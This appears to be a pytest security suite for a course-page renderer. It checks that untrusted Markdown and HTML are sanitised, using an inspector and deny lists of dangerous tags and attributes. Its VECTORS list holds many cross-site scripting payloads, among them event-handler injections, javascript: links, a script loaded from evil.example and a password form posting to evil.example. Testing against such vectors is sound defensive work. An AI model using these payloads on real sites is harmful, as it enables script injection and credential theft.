"""A course from a stranger cannot run, load, submit, pose as our page or take its ids."""

from __future__ import annotations

from hashlib import sha256
from html.parser import HTMLParser

import pytest

from content.rendering import sanitise
from content.rendering.page import render

VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x></object><embed src=x>",
    "<details ontoggle=alert(1) open>\n<summary onclick=alert(1)>S</summary>\nx\n</details>",
    "<details open style=color:red>\n<summary>S</summary>\n</details>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x]( data:text/html;base64,PHNjcmlwdD4= )",
    "[x](https://a.example \"' onmouseover='alert(1)\")",
    '[x](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    '![x" onerror="alert(1)](images/x.png)',
    "![x](images/x.png){onerror=alert(1)}",
    "## Title {#x onclick=alert(1)}",
    "## Title {: onclick=alert(1) }",
    "## <img src=x onerror=alert(1)> {#x}",
    "Text {: onclick=alert(1) style=color:red }",
    '!!! note" onclick="alert(1)\n    x',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "!!! note site-header\n    x",
    '```bash {title="<img src=x onerror=alert(1)>"}\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "```bash {onclick=alert(1)}\nx\n```",
    '```diagram {title="<script>x</script>" desc="<img>"}\n┌─────┐\n│ <b> │\n└─────┘\n```',
    '```diagram {title="x"}\n</pre><script>alert(1)</script>\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "- [ ] <input type=text onfocus=alert(1) autofocus>",
    "<kbd onclick=alert(1)>x</kbd> <br onclick=alert(1)> <kbd><script>x</script></kbd>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div id=main class=site-header>x</div>",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02" + "60\x03script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)>",
    "<plaintext><xmp><listing>",
    "<?php x ?> <!DOCTYPE html> <![CDATA[<img src=x onerror=alert(1)>]]>",
]

CLASSES = frozenset(
    """anchor callout callout-danger callout-exam callout-kind callout-note callout-title code
    code-scroll diagram-source external footnote footnote-backref footnote-ref table-scroll
    task-list task-list-item""".split()  # noqa: SIM905 a list of words reads better as words
)
ATTRIBUTES = frozenset(
    """alt aria-label checked class data-language decoding disabled href id loading open rel role
    scope src start tabindex type""".split()  # noqa: SIM905
)
DANGEROUS = frozenset(
    """base button embed form iframe link math meta object script style textarea title
    template noscript""".split()  # noqa: SIM905
)


class Inspector(HTMLParser):
    """Looks at HTML as a browser would and notes what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.drawing = False

    def handle_starttag(self, tag, attrs):
        self.drawing = self.drawing or dict(attrs).get("class") == "diagram"
        if tag in DANGEROUS and not (self.drawing and tag == "title"):
            self.bad.append(tag)
        for name, value in attrs:
            self.check(tag, name, value or "")

    def handle_endtag(self, tag):
        self.drawing = self.drawing and tag != "figure"

    def check(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in {"style", "srcset", "srcdoc", "action", "target"}:
            self.bad.append(f"{tag} {name}")
        if name in {"href", "src"} and not value.startswith(("#", "../", "https://", "mailto:")):
            self.bad.append(f"{tag} {name}={value}")
        if self.drawing:
            return
        if name not in ATTRIBUTES:
            self.bad.append(f"{tag} {name}")
        if name == "class" and tag != "span" and not set(value.split()) <= CLASSES:
            self.bad.append(f"{tag} class={value}")
        if name == "id" and value == "main":
            self.bad.append(f"{tag} id={value}")


def faults(markup: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector.bad


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "frame",
    ["{}", "- a\n\n    {}", "> {}", "## T {{#t}}\n\na **b {} c** d", "| a |\n|---|\n| {} |"],
)
def test_no_vector_reaches_the_page(vector, frame):
    page = render(frame.format(vector), language="en")

    markup = page.intro + "".join(section.html for section in page.sections)

    assert faults(markup) == []


def test_the_inspector_sees_what_it_should():
    assert faults("<img src=x onerror=alert(1)><p class=site-header id=main>") == [
        "img src=x",
        "img onerror",
        "img onerror",
        "p class=site-header",
        "p id=main",
    ]


def test_a_mark_cannot_be_forged():
    inner = "```bash\nSECRET\n```\n"
    seal = "G" + sha256(inner.encode()).hexdigest()[:32]

    page = render(f"{inner}\n{seal}B0Z {seal}B1Z\n", language="en")

    assert page.intro.count("<figure") == 1
    assert f"{seal}B0Z" in page.intro


def test_html_is_taken_out_with_its_line_and_unknown_words_stay_text():
    page = render("a\n\narn:aws:<region>:<div>x</div>", language="en")

    assert page.intro == "<p>a</p>\n<p>arn:aws:&lt;region&gt;:x</p>"
    assert [(problem.line, problem.what) for problem in page.problems] == [
        (3, "the HTML tag </div> is taken out"),
        (3, "the HTML tag <div> is taken out"),
    ]


def test_the_few_kept_tags_work():
    page = render("<kbd>Ctrl</kbd>+H<sub>2</sub><sup>x</sup><br>end", language="en")

    assert page.intro == ("<p><kbd>Ctrl</kbd>+H<sub>2</sub><sup>x</sup><br>\nend</p>")
    assert page.problems == ()


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("a <!-- note --> b", "<p>a  b</p>"),
        ("a\n<!-- one\n\n## two {#two}\n```\n-->\nb", "<p>a</p>\n<p>b</p>"),
        ("`<!--` a `-->`", "<p><code>&lt;!--</code> a <code>--&gt;</code></p>"),
    ],
)
def test_comments_are_left_out(source, shown):
    page = render(source, language="en")

    assert page.intro == shown
    assert page.problems == ()


def test_a_comment_that_is_never_closed_is_reported():
    page = render("a\n\n<!-- b\n\n## C {#c}\n", language="en")

    assert [problem.line for problem in page.problems] == [3]
    assert page.sections[0].id == "c"


@pytest.mark.parametrize(
    ("markup", "cleaned"),
    [
        ('<p class="site-header">x</p>', "<p>x</p>"),
        ('<h2 id="Main">x</h2>', "<h2>x</h2>"),
        ('<p id="main">x</p>', "<p>x</p>"),
        ('<a href="javascript:x" class="external">x</a>', '<a class="external">x</a>'),
        ('<a href="../../accounts/">x</a>', "<a>x</a>"),
        ('<img src="https://evil.example/x.png">', "<img>"),
        ('<input type="password" disabled="">', '<input disabled="">'),
        ('<div role="alert" class="table-scroll">x</div>', '<div class="table-scroll">x</div>'),
        ("<script>x</script><style>x</style>y", "y"),
        ("<unlinked>x</unlinked>", "x"),
    ],
)
def test_the_last_wall_stands_on_its_own(markup, cleaned):
    assert sanitise.clean(markup) == cleaned
